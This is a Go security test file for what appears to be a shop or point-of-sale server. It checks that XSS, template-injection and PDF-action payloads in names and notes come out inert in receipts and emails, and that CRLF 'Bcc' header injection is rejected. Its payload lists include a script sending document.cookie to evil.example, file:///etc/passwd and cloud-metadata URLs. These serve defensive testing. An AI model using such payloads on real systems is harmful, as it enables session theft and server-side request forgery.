package attack_test

import (
	"context"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/stretchr/testify/require"

	"souk/server/access"
	"souk/server/mails"
	"souk/server/platform/mail"
	"souk/server/platform/web"
	"souk/shared/wire"
)

// markup are texts that something which draws pages would act on.
var markup = []string{
	`<script>fetch('http://evil.example/'+document.cookie)</script>`, `"><img src=x onerror=alert(1)>`, `<iframe src="file:///etc/passwd"></iframe>`,
	`<link rel=stylesheet href=http://169.254.169.254/latest/meta-data>`, `</td></table><base href=//evil.example>`, `{{.Doc}}${7*7}#{7*7}`, `javascript:alert(1)`,
	`(/JavaScript) Tj /URI (http://evil.example)`,
}

// TestAttackByMarkup puts markup into every text that comes to paper or into a
// letter: it comes out as text.
func TestAttackByMarkup(t *testing.T) {
	r := newRing(t)
	r.program.At(web.Site{Scheme: "http", Port: ":8080", Domain: domain, Post: "kept"})
	owner := r.session(t, r.b, wire.Owner)
	s := r.bench(t)
	cases := count(t, "A17", len(markup)*3)
	w := r.watch(t)
	for _, text := range markup {
		r.write(t, r.b, `update company set name = $2 where tenant_id = $1`, r.b.id, text)
		r.write(t, r.b, `update stores set name = $2, address = $2, legal_name = $2, tax_number = $2, receipt_header = $2, receipt_footer = $2 where tenant_id = $1 and id = $3`, r.b.id, text, r.b.opened.Store.ID)
		r.write(t, r.b, `update items set name = $2 where tenant_id = $1 and id = $3`, r.b.id, text, s.item)
		r.write(t, r.b, `update customers set name = $2 where tenant_id = $1 and id = $3`, r.b.id, text, s.customer)
		r.write(t, r.b, `update people set name = $2 where tenant_id = $1 and role = 'owner'`, r.b.id, text)
		sale := s.sale([]object{{"note": text}}, object{"customer_id": s.customer, "note": text})
		r.must(t, r.b, owner, "POST", "/sales", sale)
		path := fmt.Sprintf("/sales/%s", sale["id"])

		paper := r.ask(r.b, owner, "GET", path+"/receipt.pdf", nil)
		require.Equal(t, http.StatusOK, paper.status, text)
		require.True(t, strings.HasPrefix(paper.body, "%PDF-"), text)
		for _, acts := range []string{"/JS ", "/JavaScript ", "/Launch", "/Type /EmbeddedFile", "/SubmitForm", "/URI "} {
			require.False(t, strings.Contains(paper.body, acts), "%s in the paper of %s", acts, text)
		}
		cases.one()

		id := uuid.NewString()
		r.must(t, r.b, owner, "POST", path+"/mails", object{"id": id, "to": "reader@example.org"})
		letter := read[struct {
			Subject  string `json:"subject"`
			HTML     string `json:"html"`
			FromName string `json:"from_name"`
		}](t, r.ask(r.b, owner, "GET", "/mails/"+id, nil))
		inert(t, letter.HTML, text)
		require.NotContains(t, letter.Subject+letter.FromName, "\n")
		cases.one()

		r.must(t, r.b, owner, "POST", "/invitations", object{"id": uuid.NewString(), "name": text, "email": uuid.NewString()[:8] + "@example.org", "role": "cashier"})
		r.lettersSent(t)
		subject := r.text(t, `select subject from platform.account_letters where tenant_id = $1 and state = 'kept' order by created_at desc limit 1`, r.b.id)
		require.NotContains(t, subject, "\n")
		require.NotEmpty(t, subject)
		cases.one()
	}
	w.done(t)
}

// inert fails if a page holds a text as markup: what it is made of may stand there as
// characters only.
func inert(t *testing.T, page, text string) {
	t.Helper()
	_, body, found := strings.Cut(page, "<body")
	require.True(t, found, page)
	for _, tag := range []string{"<script", "<img", "<iframe", "<link", "<base", "<object", "<form"} {
		require.NotContains(t, strings.ToLower(body), tag, text)
	}
	for _, attribute := range []string{"onerror=", "javascript:"} {
		for rest := strings.ToLower(body); ; {
			at := strings.Index(rest, attribute)
			if at < 0 {
				break
			}
			open, shut := strings.LastIndex(rest[:at], "<"), strings.LastIndex(rest[:at], ">")
			require.Less(t, open, shut, "%q stands within a tag: %s", attribute, text)
			rest = rest[at+len(attribute):]
		}
	}
}

// lettersSent has a demo's post do what waits.
func (r *ring) lettersSent(t *testing.T) {
	t.Helper()
	site := func() web.Site { return web.Site{Scheme: "http", Port: ":8080", Domain: domain, Post: mails.PostKept} }
	post := access.NewPost(r.database, mails.NewCourier(r.database, mail.Config{}, true), site)
	ctx, stop := context.WithCancel(t.Context())
	done := make(chan struct{})
	go func() { post.Run(ctx); close(done) }()
	defer func() { stop(); <-done }()
	require.Eventually(t, func() bool {
		return r.text(t, `select count(*)::text from platform.account_letters where state in ('queued', 'sending')`) == "0"
	}, time.Minute, 5*time.Millisecond)
}

// breaks are line ends that would begin a header of one's own.
var breaks = []string{"\r\nBcc: all@evil.example", "\nBcc: all@evil.example", "\rBcc: all@evil.example", "%0d%0aBcc: all@evil.example", "\u2028Bcc: all@evil.example", "\x00", "\t,all@evil.example"}

// TestAttackByLineBreaks: no text makes a line of its own in a letter's head, or in
// an answer's.
func TestAttackByLineBreaks(t *testing.T) {
	r := newRing(t)
	r.program.At(web.Site{Scheme: "http", Port: ":8080", Domain: domain, Post: "kept"})
	owner := r.session(t, r.b, wire.Owner)
	s := r.bench(t)
	addresses := []struct {
		method, path string
		body         func(to string) object
	}{
		{"POST", "/sales/" + s.sold + "/mails", func(to string) object { return object{"id": uuid.NewString(), "to": to} }},
		{"POST", "/invitations", func(to string) object {
			return object{"id": uuid.NewString(), "name": "x", "email": to, "role": "cashier"}
		}},
		{"POST", "/mail-settings/test", func(to string) object { return object{"id": uuid.NewString(), "to": to} }},
		{"PUT", "/mail-settings", func(to string) object { return object{"from_name": "x", "reply_to": to, "version": 0} }},
		{"POST", "/password/letters", func(to string) object { return object{"email": to, "locale": "en"} }},
	}
	cases := count(t, "A17", len(breaks)*(len(addresses)+2))
	w := r.watch(t)
	for _, broken := range breaks {
		for _, a := range addresses {
			got := r.ask(r.b, owner, a.method, a.path, a.body("reader@example.org"+broken))
			require.Equal(t, http.StatusUnprocessableEntity, got.status, "%s with %q: %s", a.path, broken, got.body)
			cases.one()
		}
		r.write(t, r.b, `delete from mail_settings where tenant_id = $1`, r.b.id)
		named := r.ask(r.b, owner, "PUT", "/mail-settings", object{"from_name": "Shop" + broken, "reply_to": "", "version": 0})
		require.Less(t, named.status, 500, named.body)
		kept := r.text(t, `select coalesce((select from_name from mail_settings where tenant_id = $1), '')`, r.b.id)
		require.False(t, strings.ContainsAny(kept, "\r\n\x00"), "%q", kept)
		cases.one()

		name := "list" + broken + `".csv`
		r.write(t, r.b, `insert into files (tenant_id, id, name, content_type, needs, complete, made_by, created_at, expires_at)
			values ($1, $2, $3, 'text/csv', 'catalog.read', true, $4, now(), now() + interval '1 day')`, r.b.id, uuid.New(), strings.ReplaceAll(name, "\x00", ""), r.b.people[wire.Owner])
		file := r.text(t, `select id::text from files where tenant_id = $1 and name like 'list%' order by created_at desc limit 1`, r.b.id)
		got := r.ask(r.b, owner, "GET", "/files/"+file, nil)
		header := got.header.Get("Content-Disposition")
		require.False(t, strings.ContainsAny(header, "\r\n\x00"), "%q", header)
		require.Empty(t, got.header.Get("Bcc"))
		cases.one()
	}
	w.done(t)
}
